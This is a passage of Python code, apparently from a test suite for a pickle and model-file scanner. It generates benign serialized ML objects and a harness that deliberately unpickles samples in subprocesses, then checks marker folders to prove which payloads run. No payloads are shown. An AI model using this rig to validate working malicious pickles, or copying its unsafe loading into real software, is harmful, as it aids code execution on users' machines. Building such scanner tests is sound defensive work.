    xs = np.linspace(0, 2, 10)
    yield "cubic-spline", interpolate.CubicSpline(xs, np.sin(xs))
    yield "pchip", interpolate.PchipInterpolator(xs, np.cos(xs))
    yield "bspline", interpolate.make_interp_spline(xs, xs**3, k=3)


def _sklearn() -> Iterator[tuple[str, Any]]:
    import warnings

    import numpy as np
    import pandas as pd
    from sklearn.utils.discovery import all_estimators

    rng = np.random.default_rng(42)
    x = rng.normal(size=(48, 5))
    frame = pd.DataFrame(x, columns=["age", "income", "score", "height", "weight"])
    labels = np.array(["red", "green", "blue"])[rng.integers(0, 3, 48)]
    target = x @ rng.normal(size=5)
    for kind, y in (
        ("classifier", labels),
        ("regressor", target),
        ("cluster", None),
        ("transformer", labels),
    ):
        for name, cls in all_estimators(type_filter=kind):
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                try:
                    est = cls()
                    data = (
                        np.abs(frame)
                        if name
                        in (
                            "AdditiveChi2Sampler",
                            "MultinomialNB",
                            "ComplementNB",
                            "CategoricalNB",
                            "SkewedChi2Sampler",
                        )
                        else frame
                    )
                    est.fit(data) if y is None else est.fit(data, y)
                except Exception:  # estimators that need arguments or other data
                    continue
            yield f"sklearn-{name}", est


def _sklearn_composites() -> Iterator[tuple[str, Any]]:
    import warnings

    import numpy as np
    import pandas as pd
    from sklearn.compose import ColumnTransformer, make_column_selector
    from sklearn.ensemble import HistGradientBoostingClassifier, IsolationForest, RandomForestRegressor
    from sklearn.feature_extraction import DictVectorizer
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.impute import SimpleImputer
    from sklearn.linear_model import LogisticRegression, Ridge
    from sklearn.model_selection import GridSearchCV
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import (
        KBinsDiscretizer,
        OneHotEncoder,
        PolynomialFeatures,
        StandardScaler,
        TargetEncoder,
    )

    rng = np.random.default_rng(9)
    frame = pd.DataFrame(
        {
            "city": rng.choice(["Paris", "Lima", "Oslo"], 60),
            "size": rng.random(60) * 100,
            "rooms": rng.integers(1, 6, 60).astype(float),
        }
    )
    frame.loc[::7, "size"] = np.nan
    y = (frame["rooms"] > 3).astype(int)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        pre = ColumnTransformer(
            [
                (
                    "num",
                    Pipeline([("imp", SimpleImputer()), ("sc", StandardScaler())]),
                    make_column_selector(dtype_include="number"),
                ),
                ("cat", OneHotEncoder(handle_unknown="ignore", sparse_output=False), ["city"]),
            ]
        )
        yield (
            "pipeline-house",
            Pipeline([("pre", pre), ("clf", LogisticRegression(max_iter=200))]).fit(frame, y),
        )
        yield (
            "pipeline-poly-ridge",
            Pipeline([("imp", SimpleImputer()), ("poly", PolynomialFeatures(2)), ("r", Ridge())]).fit(
                frame[["size", "rooms"]], frame["rooms"]
            ),
        )
        yield (
            "grid-forest",
            GridSearchCV(RandomForestRegressor(n_estimators=5), {"max_depth": [2, 3]}, cv=2).fit(
                frame[["rooms"]], frame["rooms"] * 2
            ),
        )
        yield (
            "hgb-categorical",
            HistGradientBoostingClassifier(max_iter=5, categorical_features="from_dtype").fit(
                frame.astype({"city": "category"}), y
            ),
        )
        yield "target-encoder", TargetEncoder().fit(frame[["city"]], y)
        yield "kbins", KBinsDiscretizer(n_bins=3, encode="ordinal").fit(frame[["rooms"]])
        yield "dict-vectorizer", DictVectorizer().fit([{"a": 1, "b": "x"}, {"a": 2, "b": "y"}])
        yield (
            "tfidf-char",
            TfidfVectorizer(analyzer="char_wb", ngram_range=(2, 3)).fit(
                ["model kits", "pickle gates", "safe loads"]
            ),
        )
        yield "isolation-forest", IsolationForest(n_estimators=5, random_state=0).fit(frame[["rooms"]])


def _boosting() -> Iterator[tuple[str, Any]]:
    import numpy as np
    import pandas as pd

    rng = np.random.default_rng(1)
    x = pd.DataFrame(rng.random((80, 4)), columns=["f0", "f1", "f2", "f3"])
    y = (x["f0"] > 0.5).astype(int)
    multi = rng.integers(0, 3, 80)
    import xgboost as xgb

    yield "xgb-classifier", xgb.XGBClassifier(n_estimators=4, max_depth=2).fit(x, y)
    yield "xgb-multiclass", xgb.XGBClassifier(n_estimators=3).fit(x, multi)
    yield "xgb-regressor", xgb.XGBRegressor(n_estimators=4).fit(x, x["f1"])
    yield "xgb-rf", xgb.XGBRFClassifier(n_estimators=3).fit(x, y)
    yield "xgb-ranker", xgb.XGBRanker(n_estimators=3).fit(x, y, qid=np.repeat(np.arange(8), 10))
    yield "xgb-booster", xgb.train({"max_depth": 2}, xgb.DMatrix(x, label=y), 4)
    import lightgbm as lgb

    yield "lgbm-classifier", lgb.LGBMClassifier(n_estimators=4, verbose=-1).fit(x, y)
    yield "lgbm-multiclass", lgb.LGBMClassifier(n_estimators=3, verbose=-1).fit(x, multi)
    yield "lgbm-regressor", lgb.LGBMRegressor(n_estimators=4, verbose=-1).fit(x, x["f2"])
    yield "lgbm-ranker", lgb.LGBMRanker(n_estimators=3, verbose=-1).fit(x, multi, group=[10] * 8)
    yield "lgbm-booster", lgb.train({"verbose": -1, "objective": "binary"}, lgb.Dataset(x, label=y), 4)
    import catboost

    yield (
        "catboost-classifier",
        catboost.CatBoostClassifier(iterations=4, verbose=0, allow_writing_files=False).fit(x, y),
    )
    yield (
        "catboost-multiclass",
        catboost.CatBoostClassifier(
            iterations=3, verbose=0, allow_writing_files=False, loss_function="MultiClass"
        ).fit(x, multi),
    )
    yield (
        "catboost-regressor",
        catboost.CatBoostRegressor(iterations=4, verbose=0, allow_writing_files=False).fit(x, x["f3"]),
    )


def _statsmodels() -> Iterator[tuple[str, Any]]:
    import warnings

    import numpy as np
    import pandas as pd
    import statsmodels.api as sm
    from statsmodels.tsa.arima.model import ARIMA
    from statsmodels.tsa.holtwinters import ExponentialSmoothing, SimpleExpSmoothing

    rng = np.random.default_rng(2)
    x = pd.DataFrame(rng.random((60, 2)), columns=["a", "b"])
    exog = sm.add_constant(x)
    y = x["a"] * 2 + rng.normal(size=60) * 0.1
    series = pd.Series(
        np.cumsum(rng.normal(size=48)) + 20, index=pd.date_range("2020", periods=48, freq="MS")
    )
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        yield "sm-ols", sm.OLS(y, exog).fit()
        yield "sm-ols-robust", sm.OLS(y, exog).fit(cov_type="HC3")
        yield "sm-glm-poisson", sm.GLM(rng.poisson(3, 60), exog, family=sm.families.Poisson()).fit()
        yield "sm-probit", sm.Probit((y > y.median()).astype(int), exog).fit(disp=0)
        yield "sm-quantreg", sm.QuantReg(y, exog).fit(q=0.5)
        yield "sm-arima", ARIMA(series, order=(1, 1, 0)).fit()
        yield "sm-ses", SimpleExpSmoothing(series, initialization_method="estimated").fit()
        yield "sm-hw", ExponentialSmoothing(series, trend="add").fit()


def _python() -> Iterator[tuple[str, Any]]:
    import collections
    import datetime
    import decimal

    stamp = datetime.datetime(2023, 11, 2, 8, 15, 30, tzinfo=datetime.timezone(datetime.timedelta(hours=1)))
    yield "metadata", {"trained": stamp, "took": datetime.timedelta(minutes=3), "day": stamp.date()}
    yield "counts", collections.Counter(["cat", "dog", "cat"])
    yield "defaults", collections.defaultdict(int, {"a": 2})
    yield "ordered", collections.OrderedDict([("x", 1.5), ("y", decimal.Decimal("2.25"))])
    yield "sets", [{1, 2}, frozenset(["a"]), b"bytes", bytearray(3), complex(0, 1)]


BENIGN_SOURCES = {
    "python": _python,
    "pandas": _frames,
    "numpy": _arrays,
    "scipy": _scipy,
    "scikit-learn": lambda: (*_sklearn(), *_sklearn_composites()),
    "boosting": _boosting,
    "statsmodels": _statsmodels,
}


def benign(root: Path) -> list[Sample]:
    """Benign files: real fitted objects, each written by one of the writers people use (pickle protocols
    2-5, joblib plain and compressed, pandas' compressed pickles, numpy object arrays), rotating."""
    import joblib
    import numpy as np
    import pandas as pd

    folder = root / "benign"
    folder.mkdir(parents=True, exist_ok=True)
    samples: list[Sample] = []
    writers = (
        "p4",
        "joblib",
        "p5",
        "joblib-zlib",
        "p2",
        "p3",
        "joblib-gzip",
        "pandas-gz",
        "joblib-xz",
        "pandas-zst",
        "p0",
    )

    def write(obj_name: str, obj: Any, library: str, writer: str) -> None:
        stem = f"{len(samples):03d}-{obj_name}".replace("/", "_")
        try:
            if writer.startswith("p") and writer[1:].isdigit():
                path = folder / f"{stem}.pkl"
                path.write_bytes(pickle.dumps(obj, protocol=int(writer[1:])))
                loader = "pickle"
            elif writer.startswith("joblib"):
                compress = {
                    "joblib": 0,
                    "joblib-zlib": ("zlib", 3),
                    "joblib-gzip": ("gzip", 3),
                    "joblib-xz": ("xz", 3),
                }[writer]
                path = folder / f"{stem}.joblib"
                joblib.dump(obj, path, compress=compress)
                loader = "joblib"
            else:
                path = folder / f"{stem}.pkl.{writer.split('-')[1]}"
                pd.to_pickle(obj, path)
                loader = "pandas"
        except Exception:  # an object a protocol cannot write (e.g. protocol 0 and slots)
            path = folder / f"{stem}.pkl"
            path.write_bytes(pickle.dumps(obj, protocol=4))
            loader = "pickle"
        samples.append(Sample(obj_name, path, loader, writer, library=library))

    for library, make in BENIGN_SOURCES.items():
        for obj_name, obj in make():
            write(obj_name, obj, library, writers[len(samples) % len(writers)])
            if library in ("scikit-learn", "boosting", "statsmodels"):
                # models travel both as joblib files and as plain pickles: a second writer each
                write(obj_name, obj, library, writers[(len(samples) + 5) % len(writers)])
    # numpy object arrays and npz files holding benign objects
    for i, value in enumerate(([1, "two", 3.0], [None, (1, 2)], [{"k": 1}])):
        path = folder / f"npy-object-{i}.npy"
        np.save(path, np.array(value, dtype=object), allow_pickle=True)
        samples.append(Sample(f"npy-object-{i}", path, "numpy", "np.save", library="numpy"))
    path = folder / "npz-object.npz"
    np.savez(path, a=np.arange(3), b=np.array(["x", 1], dtype=object))
    samples.append(Sample("npz-object", path, "numpy", "np.savez", library="numpy"))
    # torch layouts, written by the format writer (torch itself is not installed)
    for i in range(3):
        path = write_torch_zip(folder / f"torch-state-{i}.pt", [(f"model{i}/data.pkl", torch_state_dict())])
        samples.append(Sample(f"torch-zip-{i}", path, "torch-zip", "torch-zip", library="torch"))
    path = write_torch_legacy(folder / "torch-legacy.pth", torch_legacy_streams(torch_state_dict()))
    samples.append(Sample("torch-legacy", path, "torch-legacy", "torch-legacy", library="torch"))
    return samples


# ------------------------------------------------------------------------------------------- proving
PROVER = r'''
import json, os, pickle, sys, tarfile, zipfile
os.environ.setdefault("PAGER", "cat")

class TorchUnpickler(pickle.Unpickler):
    """torch.load's unpickler without torch: storages are persistent ids, torch's own names stubs."""

    def persistent_load(self, pid):
        return None

    def find_class(self, module, name):
        if module == "torch" or module.startswith("torch."):
            return lambda *args, **kwargs: None
        return super().find_class(module, name)

def load(path, loader):
    if loader == "pickle":
        with open(path, "rb") as fh:
            return pickle.load(fh)
    if loader == "joblib":
        import joblib
        return joblib.load(path)
    if loader == "pandas":
        import pandas
        return pandas.read_pickle(path)
    if loader == "numpy":
        import numpy
        loaded = numpy.load(path, allow_pickle=True)
        if hasattr(loaded, "files"):
            for key in loaded.files:
                try:
                    loaded[key]
                except Exception:
                    pass
        return loaded
    if loader == "torch-zip":  # torch.load reads every <prefix>/data.pkl record it finds
        with zipfile.ZipFile(path) as zf:
            for info in zf.infolist():
                if info.filename.endswith("data.pkl"):
                    try:
                        TorchUnpickler(zf.open(info)).load()
                    except Exception:
                        pass
        return None
    if loader == "torch-legacy":  # magic, protocol, sys info, the object, storage keys
        with open(path, "rb") as fh:
            for _ in range(5):
                TorchUnpickler(fh).load()
        return None
    if loader == "torch-tar":
        with tarfile.open(path) as tar:
            for name in ("sys_info", "pickle", "storages", "tensors"):
                TorchUnpickler(tar.extractfile(name)).load()
        return None
    raise ValueError(loader)

jobs = json.load(sys.stdin)
for index, (path, loader) in jobs:
    print("start", index, flush=True)
    try:
        load(path, loader)
    except BaseException:
        pass
    print("done", index, flush=True)
'''


def prove(samples: list[Sample], workdir: Path, timeout: float = 600) -> dict[str, bool]:
    """Load every sample in throw-away subprocesses (one for many files; a payload that kills its
    process only costs a restart) and report, by file name, whether its marker folder was written."""
    import json
    import os
    import subprocess
    import sys
    import time

    todo = [(i, (str(s.path), s.loader)) for i, s in enumerate(samples)]
    env = {**os.environ, "PAGER": "cat", "PYTHONDONTWRITEBYTECODE": "1"}
    while todo:
        proc = subprocess.run(
            [sys.executable, "-c", PROVER],
            input=json.dumps(todo),
            capture_output=True,
            text=True,
            cwd=workdir,
            env=env,
            timeout=timeout,
            check=False,
        )
        started = [int(line.split()[1]) for line in proc.stdout.splitlines() if line.startswith("start ")]
        if proc.returncode == 0 or not started:
            break
        last = started[-1]  # the payload that ended its process: go on after it
        todo = [job for job in todo if job[0] > last]
    deadline = time.monotonic() + 5  # payloads that spawn processes (Popen, pagers) finish late
    result: dict[str, bool] = {}
    for sample in samples:
        assert sample.marker is not None
        while not any(sample.marker.iterdir()) and time.monotonic() < deadline:
            time.sleep(0.05)
        result[sample.path.name] = any(sample.marker.iterdir())
    return result
